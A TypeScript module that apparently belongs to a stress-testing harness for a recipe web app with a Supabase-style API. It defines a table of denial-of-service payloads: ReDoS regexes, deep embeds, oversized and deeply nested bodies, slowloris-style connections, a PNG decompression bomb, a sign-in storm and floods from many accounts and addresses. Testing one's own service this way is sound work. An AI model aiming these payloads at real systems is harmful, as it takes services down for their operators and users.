import { deflateSync } from 'node:zlib'
import type { Call } from './call.ts'
import type { Job } from './job.ts'
import { type Attack, flood, idle, rented } from './ways.ts'

const json = { 'content-type': 'application/json' }
const signedIn = ({ publicKey, tokens }: Job, at = 0) => ({
  ...json,
  apikey: publicKey,
  authorization: `Bearer ${tokens[at % tokens.length]}`,
})
const rpc = (name: string, body: unknown) => ({
  method: 'POST',
  path: `/rest/v1/rpc/${name}`,
  body: JSON.stringify(body),
})
const read = (path: string): Call => ({ path: `/rest/v1${path}` })
/** The same calls, each by the next of the attacker's accounts. */
const asMany = (job: Job, calls: readonly Call[]) =>
  calls.map((call, at): Call => ({ ...call, headers: signedIn(job, at) }))

const terms = (term: (at: number) => string) =>
  Array.from({ length: 500 }, (_, at) => term(at)).join(',')
const deep = (depth: number): string =>
  depth === 0
    ? '*'
    : `*,recipe_ingredients(*,ingredients(*,recipe_ingredients(*,recipe_cards(${deep(depth - 1)}))))`
const everyFilter = {
  search_text: 'a quick soup with tomato and some bread',
  preferences: ['vegetarian', 'gluten-free'],
  restrictions: ['nuts', 'fish', 'soy'],
  cuisines: ['italian', 'thai', 'french'],
  meals: ['dinner', 'lunch'],
  difficulties: ['easy', 'medium'],
  seasons: ['autumn'],
  facts: ['freezes', 'without-oven'],
  max_minutes: 240,
  min_rating: 0,
}
const manyFoods = Array.from({ length: 1_000 }, (_, at) => ({
  ingredient: `food-${at}`,
  age: at,
}))

function bomb(side: number): Buffer {
  const piece = (name: string, data: Buffer) => {
    const head = Buffer.alloc(8)
    head.writeUInt32BE(data.length, 0)
    head.write(name, 4)
    return Buffer.concat([head, data, Buffer.alloc(4)])
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header.set([8, 0], 8)
  const pixels = deflateSync(Buffer.alloc(side * (side + 1)))
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    piece('IHDR', header),
    piece('IDAT', pixels),
    piece('IEND', Buffer.alloc(0)),
  ])
}

/** Each kind of hostility by its name, as it stands in the table. */
export const attacks: Readonly<Record<string, Attack>> = {
  'filters of 500 terms': flood(
    (job) =>
      asMany(job, [
        read(`/recipe_cards?select=id&or=(${terms((at) => `title.ilike.*a${at}*`)})`),
        read(`/recipe_cards?select=id&and=(${terms((at) => `title.neq.a${at}`)})`),
      ]),
    20,
  ),
  'deep embeds': flood(
    (job) =>
      asMany(job, [
        read(`/recipe_cards?select=${deep(1)}`),
        read(`/recipe_cards?select=${deep(2)}&limit=1000`),
      ]),
    20,
  ),
  'hostile patterns': flood(
    (job) =>
      asMany(job, [
        read(
          `/recipe_cards?select=id&title=imatch.${encodeURIComponent('(.*)(.*)(.*)\\1\\2\\3x$')}`,
        ),
        read(`/recipe_cards?select=id&summary=match.${encodeURIComponent('(((a+)+)+)+$')}`),
        read(`/recipe_cards?select=id&summary=ilike.${'*a*e'.repeat(400)}`),
      ]),
    20,
  ),
  'names of 10,000 letters': flood(
    (job) =>
      asMany(job, [
        read(`/recipe_cards?select=${'abc'.repeat(3_300)}(id)`),
        read(`/rpc/${'abc'.repeat(3_300)}`),
        rpc('count_recipes', { ['abc'.repeat(300_000)]: 1 }),
      ]),
    20,
  ),
  'huge bodies': flood(
    (job) => [
      ...asMany(job, [
        rpc('search_recipes', { pantry: Array.from({ length: 20_000 }, () => manyFoods[0]) }),
        { method: 'POST', path: '/rest/v1/pantry_items', body: Buffer.alloc(3_000_000, ' ') },
        {
          method: 'POST',
          path: '/rest/v1/pantry_items',
          body: `[${'{"name":"a"},'.repeat(70_000)}{}]`,
        },
        { method: 'PUT', path: '/auth/v1/user', body: '['.repeat(60_000) },
      ]),
    ],
    12,
  ),
  'slow bodies': idle(
    200,
    `POST /rest/v1/rpc/count_recipes HTTP/1.1\r\nHost: x\r\napikey: KEY\r\nContent-Type: application/json\r\nContent-Length: 900000\r\n\r\n{`,
    ' ',
  ),
  'slow headers': idle(400, 'GET / HTTP/1.1\r\nHost: x\r\n', 'X: y\r\n'),
  'slow readers': idle(
    200,
    'GET /rest/v1/recipe_cards?select=*,recipe_ingredients(*)&limit=1000 HTTP/1.1\r\nHost: x\r\napikey: KEY\r\n\r\n',
  ),
  '1,000 connections': idle(1_000, 'GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n'),
  'searches with all filters': flood(
    (job) =>
      asMany(job, [
        rpc('search_recipes', { ...everyFilter, page_size: 50, pantry: manyFoods.slice(0, 200) }),
        rpc('count_recipes', { ...everyFilter, with_facets: true }),
        rpc('count_recipes', { with_facets: true, pantry: manyFoods }),
      ]),
    30,
  ),
  'thousands of calls': flood(
    (job) =>
      asMany(job, [
        rpc('count_recipes', {}),
        read('/recipe_cards?select=id&limit=1'),
        read('/pantry_items?select=*'),
      ]),
    50,
  ),
  'calls from many addresses': flood(
    (job) =>
      asMany(job, [
        rpc('search_recipes', { pantry: manyFoods.slice(0, 40) }),
        rpc('count_recipes', { search_text: 'soup' }),
      ]),
    15,
    rented,
  ),
  'long lists, offsets and counts': flood(
    (job) =>
      asMany(job, [
        read(
          `/recipe_cards?select=id&id=in.(${Array.from({ length: 2_000 }, (_, at) => at).join(',')})`,
        ),
        {
          ...read('/recipe_ingredients?select=*&order=name&offset=100000'),
          headers: { prefer: 'count=exact' },
        },
        read('/recipe_ingredients?select=*,recipe_cards(*)&order=note,name&offset=5000&limit=1000'),
      ]).map((call): Call => ({ ...call, headers: { ...call.headers, prefer: 'count=exact' } })),
    20,
  ),
  'picture bombs': flood(
    (job) => {
      const body = bomb(6_000)
      return job.tokens.map((_, at) => ({
        method: 'POST',
        path: '/functions/v1/pictures?purpose=recipe',
        headers: { ...signedIn(job, at), 'content-type': 'image/png' },
        body,
      }))
    },
    8,
    rented,
  ),
  'imports that are hard to read': flood(
    (job) =>
      asMany(job, [
        {
          method: 'POST',
          path: '/functions/v1/import-recipe',
          body: JSON.stringify({ html: '<div itemprop="x">'.repeat(100_000) }),
        },
        {
          method: 'POST',
          path: '/functions/v1/import-recipe',
          body: JSON.stringify({ url: 'http://slow.invalid/' }),
        },
        {
          method: 'POST',
          path: '/functions/v1/import-recipe',
          body: JSON.stringify({ text: '1/2 1/2 1/2 cup '.repeat(3_000) }),
        },
      ]),
    8,
    rented,
  ),
  'sign-in storm': flood(
    ({ publicKey }) =>
      Array.from({ length: 200 }, (_, at) => ({
        method: 'POST',
        path: '/auth/v1/token?grant_type=password',
        headers: { ...json, apikey: publicKey },
        body: JSON.stringify({ email: `storm-${at}@example.com`, password: 'not-the-one' }),
      })),
    25,
    rented,
  ),
  'pages of recipes': flood(
    () =>
      Array.from({ length: 500 }, (_, at) => ({
        path: `/recipe/${100_001 + at}`,
        headers: { accept: 'text/html' },
      })),
    40,
  ),
}
